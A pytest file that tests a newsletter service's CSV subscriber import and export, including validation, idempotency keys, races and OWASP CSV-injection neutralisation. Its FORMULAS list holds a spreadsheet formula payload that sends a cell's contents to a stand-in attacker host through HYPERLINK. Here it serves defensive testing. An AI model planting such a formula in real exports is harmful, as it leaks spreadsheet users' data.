"""CSV import and export: the service on a real database, and the admin API around it."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import asyncpg
import httpx
import pytest

from newsletter.db.database import Database
from newsletter.services.audience.imports import ImportReport, export_csv, import_csv
from newsletter.services.errors import Conflict, Invalid, NotFound
from tests.harness import AdminClient, SMTPServer, TestApp, admin_client, spawn_app

pytestmark = pytest.mark.asyncio


@pytest.fixture
async def conn(database_url: str) -> AsyncIterator[asyncpg.Connection]:
    connection = await asyncpg.connect(database_url)
    yield connection
    await connection.close()


async def run_import(conn: asyncpg.Connection, data: bytes | str, list_slug: str = "default") -> ImportReport:
    raw = data.encode() if isinstance(data, str) else data
    return await import_csv(Database.on(conn), io.BytesIO(raw), list_slug=list_slug)


async def people(conn: asyncpg.Connection, list_slug: str = "default") -> list[tuple[str, str, str, str]]:
    rows = await conn.fetch(
        """
        SELECT subscribers.email, subscribers.name, subscriptions.status, subscriptions.source
        FROM subscribers
        JOIN subscriptions ON subscriptions.subscriber_id = subscribers.id
        JOIN lists ON lists.id = subscriptions.list_id AND lists.slug = $1
        ORDER BY subscribers.email
        """,
        list_slug,
    )
    return [tuple(row) for row in rows]


async def export_text(conn: asyncpg.Connection, **filters: str) -> str:
    return b"".join([chunk async for chunk in export_csv(Database.on(conn), **filters)]).decode()


@asynccontextmanager
async def another_database(postgres_url: str, template_database: str) -> AsyncIterator[asyncpg.Connection]:
    """A connection to a fresh migrated database of its own (another installation), dropped afterwards."""
    from tests.conftest import create_database, drop_database
    from tests.harness import with_database

    name = await create_database(postgres_url, template_database)
    other = await asyncpg.connect(with_database(postgres_url, name))
    try:
        yield other
    finally:
        await other.close()
        await drop_database(postgres_url, name)


async def grace_unsubscribes_and_alan_is_blocklisted(conn: asyncpg.Connection) -> None:
    await conn.execute(
        "UPDATE subscriptions SET status = 'unsubscribed', unsubscribed_at = now()"
        " WHERE subscriber_id = (SELECT id FROM subscribers WHERE email = 'grace@example.com')"
    )
    await conn.execute("UPDATE subscribers SET status = 'blocklisted' WHERE email = 'alan@example.com'")


async def test_an_import_inserts_people_as_confirmed_and_names_each_rejected_row(
    conn: asyncpg.Connection,
) -> None:
    data = (
        b"\xef\xbb\xbfemail,name,attributes\r\n"
        b'Ada@Example.COM,Ada Lovelace,"{""city"": ""London""}"\r\n'
        b"grace@example.com,Grace Hopper,\r\n"
        b"not-an-address,Nobody,\r\n"
        b"ADA@example.com,Ada Again,\r\n"
        b"caf\xe9@example.com,Latin-1,\r\n"
        b"alan@example.com,Alan Turing\r\n"
        b'edsger@example.com,"Edsger\x07",\r\n'
        b"barbara@example.com,Barbara,{oops}\r\n"
    )

    report = await run_import(conn, data)

    assert (report.inserted, report.updated, report.subscribed) == (2, 0, 2)
    assert [(item.line, item.email) for item in report.rejected] == [
        (4, "not-an-address"),
        (5, "ADA@example.com"),
        (6, "caf\ufffd@example.com"),
        (7, "alan@example.com"),
        (8, "edsger@example.com"),
        (9, "barbara@example.com"),
    ]
    reasons = [item.reason for item in report.rejected]
    assert reasons[0].startswith("email: This is not a valid email address")
    assert reasons[1] == "duplicate of line 2"
    assert reasons[2] == "not valid UTF-8"
    assert reasons[3] == "expected 3 fields as in the header, found 2"
    assert reasons[4] == "name: Names cannot contain control characters."
    assert reasons[5].startswith("attributes: not valid JSON")
    assert report.rejected_total == 6
    assert await people(conn) == [
        ("Ada@example.com", "Ada Lovelace", "confirmed", "import"),
        ("grace@example.com", "Grace Hopper", "confirmed", "import"),
    ]
    row = await conn.fetchrow("SELECT attributes::text, confirmed_at FROM subscribers JOIN subscriptions "
                              "ON subscriber_id = id WHERE email = 'Ada@example.com'")  # fmt: skip
    assert row["attributes"] == '{"city": "London"}'
    assert row["confirmed_at"] is not None


async def test_importing_the_same_file_twice_leaves_the_same_subscribers_once_each(
    conn: asyncpg.Connection,
) -> None:
    data = "email,name\n" + "".join(f"Reader{n}@Example.com,Reader {n}\n" for n in range(500))

    first = await run_import(conn, data)
    before = await conn.fetch("SELECT id, email, name, updated_at FROM subscribers ORDER BY id")
    second = await run_import(conn, data)
    after = await conn.fetch("SELECT id, email, name, updated_at FROM subscribers ORDER BY id")

    assert (first.inserted, first.updated, first.subscribed) == (500, 0, 500)
    assert (second.inserted, second.updated, second.subscribed) == (0, 500, 0)
    assert second.rejected == []
    assert after == before  # not even rewritten
    assert await conn.fetchval("SELECT count(*) FROM subscriptions") == 500
    assert await conn.fetchval("SELECT count(DISTINCT lower(email)) FROM subscribers") == 500


async def test_an_existing_subscriber_is_updated_not_duplicated(app: TestApp) -> None:
    assert (await app.subscribe("Ada.Lovelace@Example.com", "Ada")).status_code == 202
    await app.pool.execute(
        """UPDATE subscribers SET attributes = '{"plan": "pro", "city": "Paris"}'"""
    )  # fmt: skip
    data = (
        "email,name,attributes\n"
        'ada.lovelace@EXAMPLE.COM,Ada Lovelace,"{""city"": ""London""}"\n'
        "new@example.com,,\n"
    )

    async with app.pool.acquire() as conn:
        report = await run_import(conn, data)
        again = await run_import(conn, "email,name\nada.lovelace@example.com,\n")

    assert (report.inserted, report.updated, report.subscribed) == (1, 1, 2)
    assert (again.inserted, again.updated, again.subscribed) == (0, 1, 0)
    rows = await app.pool.fetch("SELECT email, name, attributes FROM subscribers ORDER BY id")
    assert [tuple(row) for row in rows] == [
        ("Ada.Lovelace@example.com", "Ada Lovelace", {"plan": "pro", "city": "London"}),
        ("new@example.com", "", {}),
    ]
    # The pending sign-up is now confirmed, with the import as its consent evidence.
    subscription = await app.pool.fetchrow(
        "SELECT status, source, confirmed_at, signup_ip FROM subscriptions WHERE subscriber_id = 1"
    )
    assert (subscription["status"], subscription["source"]) == ("confirmed", "import")
    assert subscription["confirmed_at"] is not None
    assert subscription["signup_ip"] is not None  # the sign-up's own evidence stays


async def test_unsubscribed_suppressed_and_blocklisted_people_are_left_alone_and_reported(
    conn: asyncpg.Connection,
) -> None:
    await run_import(conn, "email,name\nleft@example.com,Left\nblocked@example.com,Blocked\n")
    await conn.execute(
        """
        UPDATE subscriptions SET status = 'unsubscribed', unsubscribed_at = now()
        WHERE subscriber_id = (SELECT id FROM subscribers WHERE email = 'left@example.com');
        UPDATE subscribers SET status = 'blocklisted' WHERE email = 'blocked@example.com';
        INSERT INTO suppressions (email, reason) VALUES ('Bounced@example.com', 'hard_bounce'),
                                                         ('everything@example.com', 'unsubscribe_all');
        """
    )
    data = (
        "email,name\n"
        "LEFT@example.com,Changed\n"
        "blocked@example.com,Changed\n"
        "bounced@example.com,Bounced\n"
        "everything@example.com,Everything\n"
        "welcome@example.com,Welcome\n"
    )

    report = await run_import(conn, data)

    assert (report.inserted, report.updated, report.subscribed) == (1, 0, 1)
    assert [(item.line, item.reason) for item in report.rejected] == [
        (2, "unsubscribed from this list: not subscribed again"),
        (3, "blocklisted: not imported"),
        (4, "suppressed (hard bounce): not imported"),
        (5, "suppressed (unsubscribe all): not imported"),
    ]
    assert await people(conn) == [
        ("Blocked@example.com".lower(), "Blocked", "confirmed", "import"),
        ("left@example.com", "Left", "unsubscribed", "import"),
        ("welcome@example.com", "Welcome", "confirmed", "import"),
    ]
    assert await conn.fetchval("SELECT count(*) FROM subscribers WHERE lower(email) LIKE 'b%'") == 1


async def test_another_list_subscribes_people_who_left_a_different_list(conn: asyncpg.Connection) -> None:
    await conn.execute("INSERT INTO lists (slug, name) VALUES ('weekly', 'Weekly')")
    await run_import(conn, "email\nada@example.com\n")
    await conn.execute("UPDATE subscriptions SET status = 'unsubscribed'")

    report = await run_import(conn, "email\nada@example.com\n", list_slug="weekly")

    assert (report.inserted, report.updated, report.subscribed, report.rejected) == (0, 1, 1, [])
    assert await people(conn, "weekly") == [("ada@example.com", "", "confirmed", "import")]


async def test_an_unknown_list_or_a_file_without_an_email_column_imports_nothing(
    conn: asyncpg.Connection,
) -> None:
    with pytest.raises(NotFound, match="list 'nope' does not exist"):
        await run_import(conn, "email\nada@example.com\n", list_slug="nope")
    with pytest.raises(Invalid, match="no 'email' column"):
        await run_import(conn, "mail,name\nada@example.com,Ada\n")

    assert await conn.fetchval("SELECT count(*) FROM subscribers") == 0


async def test_an_import_is_all_or_nothing_inside_the_callers_transaction(conn: asyncpg.Connection) -> None:
    transaction = conn.transaction()
    await transaction.start()
    report = await run_import(conn, "email\nada@example.com\n")
    await transaction.rollback()

    assert report.inserted == 1
    assert await conn.fetchval("SELECT count(*) FROM subscribers") == 0
    # The staging table went with the transaction: the connection can import again.
    assert (await run_import(conn, "email\nada@example.com\n")).inserted == 1


class _Unseekable(io.BytesIO):
    def seekable(self) -> bool:
        return False


async def import_during_a_sign_up(
    conn: asyncpg.Connection, database_url: str, source: io.BytesIO
) -> ImportReport:
    """Imports ada and grace while a sign-up of Grace@example.com, begun before, commits in the middle."""
    signing_up, watching = await asyncpg.connect(database_url), await asyncpg.connect(database_url)
    try:
        sign_up = signing_up.transaction()
        await sign_up.start()
        await signing_up.execute(
            "INSERT INTO subscribers (email, name) VALUES ('Grace@example.com', 'Grace')"
        )
        importing = asyncio.ensure_future(import_csv(Database.on(conn), source, list_slug="default"))
        # The import's plain INSERT meets the sign-up's address, not committed yet, and waits for it.
        waiting = False
        for _ in range(100):
            waiting = await watching.fetchval(
                "SELECT wait_event_type = 'Lock' FROM pg_stat_activity WHERE pid = $1", conn.get_server_pid()
            )
            if waiting:
                break
            await asyncio.sleep(0.05)
        await sign_up.commit()
        assert waiting
        return await importing
    finally:
        await signing_up.close()
        await watching.close()


RACED = b"email,name\nada@example.com,Ada\ngrace@example.com,Grace Hopper\n"


async def test_an_import_that_races_a_sign_up_of_one_of_its_addresses_starts_again(
    conn: asyncpg.Connection, database_url: str
) -> None:
    report = await import_during_a_sign_up(conn, database_url, io.BytesIO(RACED))

    assert (report.inserted, report.updated, report.subscribed, report.rejected) == (1, 1, 2, [])
    assert await people(conn) == [
        ("Grace@example.com", "Grace Hopper", "confirmed", "import"),
        ("ada@example.com", "Ada", "confirmed", "import"),
    ]


async def test_an_import_that_cannot_read_its_source_again_reports_the_race(
    conn: asyncpg.Connection, database_url: str
) -> None:
    with pytest.raises(Conflict, match="signed up while it was imported; try again"):
        await import_during_a_sign_up(conn, database_url, _Unseekable(RACED))

    assert await conn.fetchval("SELECT array_agg(email) FROM subscribers") == ["Grace@example.com"]


async def test_an_export_imports_back_into_another_database_as_the_same_people(
    conn: asyncpg.Connection, postgres_url: str, template_database: str
) -> None:
    data = (
        "email,name,attributes\n"
        'ada@example.com,"Lovelace, Ada","{""quote"": ""say \\""hi\\""""}"\n'
        "zoe@example.com,Zoë,\n"
        'grace@example.com,"Grace\nHopper",\n'  # rejected: a line break in a name
    )
    await run_import(conn, data)

    exported = await export_text(conn)
    async with another_database(postgres_url, template_database) as other:
        report = await run_import(other, exported)
        copied = await other.fetch("SELECT email, name, attributes::text FROM subscribers ORDER BY email")

    original = await conn.fetch("SELECT email, name, attributes::text FROM subscribers ORDER BY email")
    assert (report.inserted, report.rejected) == (2, [])
    assert [tuple(row) for row in copied] == [tuple(row) for row in original]
    assert [row["name"] for row in original] == ["Lovelace, Ada", "Zoë"]


async def test_a_quote_left_open_is_reported_not_read_into_the_rest_of_the_file(
    conn: asyncpg.Connection,
) -> None:
    """A lenient CSV reader takes everything after a stray opening quote as one field: the rows after it
    would vanish without a word, and an ignored column would even import the row."""
    report = await run_import(
        conn, 'email,notes\nann@example.com,"12 inch monitor\nbob@example.com,ok\ncid@example.com,ok\n'
    )

    assert report.inserted == 0
    [rejected] = report.rejected
    assert rejected.line == 2
    assert rejected.reason.startswith("malformed CSV: unexpected end of data (lines 2-")
    assert "a quote left open?" in rejected.reason
    assert await conn.fetchval("SELECT count(*) FROM subscribers") == 0


async def test_an_export_imported_back_subscribes_nobody_who_said_no_or_never_said_yes(
    conn: asyncpg.Connection, postgres_url: str, template_database: str
) -> None:
    """An export holds one row per subscription with its status: imported into a list, only that list's
    confirmed subscriptions of people who are not blocklisted come back; the other rows are named."""
    await conn.execute("INSERT INTO lists (slug, name) VALUES ('weekly', 'Weekly')")
    await run_import(conn, "email\nada@example.com\ngrace@example.com\nalan@example.com\n")
    await run_import(conn, "email\nada@example.com\n", list_slug="weekly")
    await grace_unsubscribes_and_alan_is_blocklisted(conn)
    bob = await conn.fetchval("INSERT INTO subscribers (email) VALUES ('bob@example.com') RETURNING id")
    await conn.execute(
        "INSERT INTO subscriptions (subscriber_id, list_id, status)"
        " SELECT $1, id, 'pending' FROM lists WHERE slug = 'default'",
        bob,
    )
    await conn.execute("INSERT INTO subscribers (email) VALUES ('cid@example.com')")  # in no list
    exported = await export_text(conn)

    async with another_database(postgres_url, template_database) as other:
        report = await run_import(other, exported)
        copied = await people(other)

    assert [row[0] for row in copied] == ["ada@example.com"]
    reasons = {item.email: item.reason for item in report.rejected}
    assert report.inserted == 1 and report.rejected_total == 5
    assert reasons == {
        "cid@example.com": "no subscription in the file: not subscribed",
        "ada@example.com": "a subscription to list 'weekly', not 'default': not imported",
        "grace@example.com": "unsubscribed in the file: not subscribed again",
        "alan@example.com": "blocklisted in the file: not imported",
        "bob@example.com": "pending in the file (never confirmed): not subscribed",
    }


async def test_an_export_has_one_row_per_subscription_and_filters_by_list_and_status(
    conn: asyncpg.Connection,
) -> None:
    await conn.execute("INSERT INTO lists (slug, name) VALUES ('weekly', 'Weekly')")
    await run_import(conn, "email,name\nada@example.com,Ada\ngrace@example.com,Grace\n")
    await run_import(conn, "email\nada@example.com\nalan@example.com\n", list_slug="weekly")
    await grace_unsubscribes_and_alan_is_blocklisted(conn)

    def rows(text: str) -> list[tuple[str, str, str, str]]:
        parsed = list(csv.DictReader(io.StringIO(text)))
        return [(row["email"], row["list"], row["status"], row["subscriber_status"]) for row in parsed]

    everything = await export_text(conn)
    weekly = await export_text(conn, list_slug="weekly")
    unsubscribed = await export_text(conn, status="unsubscribed")
    blocklisted = await export_text(conn, status="blocklisted")

    assert everything.splitlines()[0] == (
        "email,name,attributes,subscriber_status,list,status,subscribed_at,confirmed_at,unsubscribed_at"
    )
    assert rows(everything) == [
        ("ada@example.com", "default", "confirmed", "active"),
        ("ada@example.com", "weekly", "confirmed", "active"),
        ("grace@example.com", "default", "unsubscribed", "active"),
        ("alan@example.com", "weekly", "confirmed", "blocklisted"),
    ]
    assert rows(weekly) == [
        ("ada@example.com", "weekly", "confirmed", "active"),
        ("alan@example.com", "weekly", "confirmed", "blocklisted"),
    ]
    assert rows(unsubscribed) == [("grace@example.com", "default", "unsubscribed", "active")]
    assert rows(blocklisted) == [("alan@example.com", "weekly", "confirmed", "blocklisted")]
    first = next(csv.DictReader(io.StringIO(everything)))
    assert first["subscribed_at"].endswith("Z") and first["unsubscribed_at"] == ""
    with pytest.raises(NotFound):
        await export_text(conn, list_slug="nope")


async def test_a_large_export_streams_in_chunks(conn: asyncpg.Connection) -> None:
    await conn.execute(
        """
        WITH people AS (
            INSERT INTO subscribers (email, name)
            SELECT 'reader' || n || '@example.com', 'Reader ' || n FROM generate_series(1, 20000) AS n
            RETURNING id
        )
        INSERT INTO subscriptions (subscriber_id, list_id, status, source) SELECT id, 1, 'confirmed', 'test'
        FROM people
        """
    )

    chunks = [chunk async for chunk in export_csv(Database.on(conn))]

    assert len(chunks) > 2
    assert b"".join(chunks).count(b"\n") == 20001


# The admin API


@pytest.fixture
async def admin(app: TestApp) -> AdminClient:
    return await admin_client(app)


async def post_csv(
    app: TestApp, admin: AdminClient, data: bytes, list_slug: str = "default", key: str | None = None
) -> tuple[int, dict[str, object]]:
    headers = {**admin.headers, "Content-Type": "text/csv"}
    if key:
        headers["Idempotency-Key"] = key
    response = await app.client.post(
        "/api/v1/subscribers/import", params={"list": list_slug}, content=data, headers=headers
    )
    return response.status_code, response.json()


async def test_the_api_imports_a_csv_body_and_answers_with_the_report(
    app: TestApp, admin: AdminClient
) -> None:
    # Larger than the 64 KB every other request may send.
    data = b"email,name\n" + b"".join(f"reader{n}@example.com,Reader {n}\n".encode() for n in range(4000))
    data += b"broken,Broken\n"

    status, body = await post_csv(app, admin, data)

    assert len(data) > app.settings.max_body_bytes
    assert status == 200
    assert body == {
        "inserted": 4000,
        "updated": 0,
        "subscribed": 4000,
        "rejected": [
            {
                "line": 4002,
                "email": "broken",
                "reason": "email: This is not a valid email address: An email address must have an @-sign.",
            }
        ],
        "rejected_total": 1,
    }
    assert (await admin.get("/lists/1")).json()["subscribers"]["confirmed"] == 4000


async def test_the_api_imports_a_multipart_upload(app: TestApp, admin: AdminClient) -> None:
    response = await app.client.post(
        "/api/v1/subscribers/import",
        files={"file": ("people.csv", b"email,name\nada@example.com,Ada\n", "text/csv")},
        headers=admin.headers,
    )
    missing = await app.client.post(
        "/api/v1/subscribers/import", files={"upload": ("people.csv", b"email\n")}, headers=admin.headers
    )

    assert response.status_code == 200, response.text
    assert response.json()["inserted"] == 1
    assert missing.status_code == 422
    assert "'file'" in missing.json()["detail"]


async def test_an_import_replayed_with_its_idempotency_key_happens_once(
    app: TestApp, admin: AdminClient
) -> None:
    data = b"email\nada@example.com\n"

    first = await post_csv(app, admin, data, key="import-1")
    await app.pool.execute("DELETE FROM subscriptions")
    replayed = await post_csv(app, admin, data, key="import-1")
    other_list = await post_csv(app, admin, data, list_slug="weekly", key="import-1")

    assert first == replayed == (200, {**first[1]})
    assert first[1]["subscribed"] == 1
    assert await app.pool.fetchval("SELECT count(*) FROM subscriptions") == 0  # not imported again
    assert other_list[0] == 422  # same key, another request


async def test_a_multipart_import_retried_with_its_idempotency_key_is_replayed(
    app: TestApp, admin: AdminClient
) -> None:
    """Every multipart request has a boundary of its own: the key covers the file, not the bytes around it."""

    async def upload(data: bytes, **params: str) -> httpx.Response:
        return await app.client.post(
            "/api/v1/subscribers/import",
            params=params,
            files={"file": ("people.csv", data, "text/csv")},
            headers={**admin.headers, "Idempotency-Key": "upload-1"},
        )

    first = await upload(b"email\nada@example.com\n")
    await app.pool.execute("DELETE FROM subscriptions")
    again = await upload(b"email\nada@example.com\n", list="default")  # the default list, named
    other_file = await upload(b"email\ngrace@example.com\n")

    assert first.status_code == again.status_code == 200
    assert again.json() == first.json() and again.headers["idempotent-replayed"] == "true"
    assert await app.pool.fetchval("SELECT count(*) FROM subscriptions") == 0  # not imported again
    assert other_file.status_code == 422


async def test_api_import_errors_are_problems(app: TestApp, admin: AdminClient) -> None:
    unknown_list = await post_csv(app, admin, b"email\nada@example.com\n", list_slug="nope")
    no_email = await post_csv(app, admin, b"name\nAda\n")
    json_body = await admin.post("/subscribers/import", {"email": "ada@example.com"})
    anonymous = await app.client.post(
        "/api/v1/subscribers/import", content=b"email\n", headers={"Content-Type": "text/csv"}
    )
    read_token = await admin_client(app, scope="read")
    read_only = await post_csv(app, read_token, b"email\nada@example.com\n")

    problem = {"type": "about:blank", "title": "Not found", "status": 404}
    assert unknown_list == (404, {**problem, "detail": "list 'nope' does not exist"})
    assert no_email[0] == 422 and "no 'email' column" in str(no_email[1]["detail"])
    assert json_body.status_code == 415
    assert json_body.headers["content-type"] == "application/problem+json"
    assert anonymous.status_code == 401
    assert read_only[0] == 403
    assert await app.pool.fetchval("SELECT count(*) FROM subscribers") == 0


async def test_the_larger_body_limit_applies_to_imports_only(database_url: str, smtp: SMTPServer) -> None:
    async with spawn_app(database_url, smtp, max_body_bytes=2048, max_import_bytes=100_000) as app:
        admin = await admin_client(app)
        fits = b"email\n" + b"".join(f"reader{n}@example.com\n".encode() for n in range(3000))
        too_big = fits + b"x" * 100_000

        elsewhere = await app.client.post("/api/v1/lists", content=b"x" * 4096, headers=admin.headers)
        imported = await post_csv(app, admin, fits)

        async def streamed() -> AsyncIterator[bytes]:  # no Content-Length: the limit counts what arrives
            for start in range(0, len(too_big), 16384):
                yield too_big[start : start + 16384]

        refused = await app.client.post(
            "/api/v1/subscribers/import",
            content=streamed(),
            headers={**admin.headers, "Content-Type": "text/csv"},
        )

    assert 2048 < len(fits) < 100_000
    assert elsewhere.status_code == 413
    assert imported[0] == 200 and imported[1]["inserted"] == 3000
    assert refused.status_code == 413


async def test_the_api_streams_an_export_as_a_csv_attachment(app: TestApp, admin: AdminClient) -> None:
    await post_csv(app, admin, b"email,name\nada@example.com,Ada\ngrace@example.com,Grace\n")
    await app.leave("grace@example.com")

    everything = await admin.get("/subscribers/export")
    confirmed = await admin.get("/subscribers/export", list="default", status="confirmed")
    unknown = await admin.get("/subscribers/export", list="nope")
    bad_status = await admin.get("/subscribers/export", status="gone")
    anonymous = await app.client.get("/api/v1/subscribers/export")

    assert everything.status_code == 200
    assert everything.headers["content-type"] == "text/csv; charset=utf-8"
    assert everything.headers["content-disposition"].startswith('attachment; filename="subscribers-all-')
    assert [row["email"] for row in csv.DictReader(io.StringIO(everything.text))] == [
        "ada@example.com",
        "grace@example.com",
    ]
    assert confirmed.headers["content-disposition"].startswith('attachment; filename="subscribers-default-')
    assert [row["email"] for row in csv.DictReader(io.StringIO(confirmed.text))] == ["ada@example.com"]
    assert unknown.status_code == 404
    assert unknown.headers["content-type"] == "application/problem+json"
    assert bad_status.status_code == 422
    assert anonymous.status_code == 401
    # The export path is not taken for a subscriber id, and the pool got its connections back.
    assert (await admin.get("/subscribers/1")).json()["email"] == "ada@example.com"
    for _ in range(app.settings.pool_max_size + 1):
        assert (await admin.get("/subscribers/export")).status_code == 200


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
]


async def test_an_export_neutralises_cells_a_spreadsheet_would_run_and_imports_back_as_it_was(
    app: TestApp, admin: AdminClient, postgres_url: str, template_database: str
) -> None:
    """OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a CR gets an apostrophe in front."""
    for n, name in enumerate(FORMULAS):
        created = await admin.post("/subscribers", {"email": f"f{n}@example.com", "name": name})
        assert created.status_code == 201, (name, created.text)
    await admin.post(
        "/subscribers", {"email": "=cmd@example.com", "name": "Plain Name", "status": "confirmed"}
    )
    await app.pool.execute("UPDATE subscriptions SET status = 'confirmed'")

    exported = (await admin.get("/subscribers/export", list="default")).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    cells = {row["email"]: row["name"] for row in rows}

    assert all(cells[f"f{n}@example.com"] == "'" + name for n, name in enumerate(FORMULAS)), cells
    assert "'=cmd@example.com" in cells and cells["'=cmd@example.com"] == "Plain Name"
    # Imported back (into another installation, as a move would), each value is what it was.
    async with another_database(postgres_url, template_database) as other:
        report = await run_import(other, exported)
        names = dict(await other.fetch("SELECT email, name FROM subscribers"))
    assert report.rejected == []
    assert names == {
        **{f"f{n}@example.com": name for n, name in enumerate(FORMULAS)},
        "=cmd@example.com": "Plain Name",
    }


async def test_the_databases_neutralisation_is_the_one_the_import_undoes(conn: asyncpg.Connection) -> None:
    """csv_cell (SQL, the export) and write_cell (Python, beside read_cell) agree on every kind of start."""
    import random

    from newsletter.services.audience.imports import write_cell

    rng = random.Random(13)
    alphabet = "=+-@\t\r'a ,\"é\n"
    values = [
        "",
        "'",
        "''",
        "'=",
        "''=x",
        "=",
        "\t",
        "\r\n",
        "a'=",
        "-",
        "@x",
        *("".join(rng.choice(alphabet) for _ in range(rng.randrange(6))) for _ in range(500)),
    ]

    written = await conn.fetchval(
        "SELECT array_agg(csv_cell(v) ORDER BY n) FROM unnest($1::text[]) WITH ORDINALITY AS t(v, n)", values
    )

    assert written == [write_cell(value) for value in values]
